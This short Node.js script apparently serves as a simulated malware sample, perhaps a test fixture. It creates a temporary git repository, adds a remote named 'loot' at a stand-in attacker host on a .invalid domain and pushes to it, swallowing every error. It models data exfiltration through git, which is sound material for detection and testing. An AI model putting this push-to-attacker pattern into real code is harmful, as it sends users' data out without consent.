// Pushes what it found to a repository of its own (the name ends in .invalid).
const { execFileSync } = require('node:child_process');
const fs = require('node:fs');
const { tmpdir } = require('node:os');
const { join } = require('node:path');

function attempt(action) {
  try {
    action();
  } catch {
    // Malware does not complain either.
  }
}

const folder = fs.mkdtempSync(join(tmpdir(), 'sample-'));
attempt(() => execFileSync('git', ['init', '-q', folder]));
attempt(() => execFileSync('git', ['-C', folder, 'remote', 'add', 'loot', 'http://git.attacker.invalid/loot.git']));
attempt(() => execFileSync('git', ['-C', folder, 'push', 'loot', 'HEAD'], { stdio: 'ignore', timeout: 5000 }));
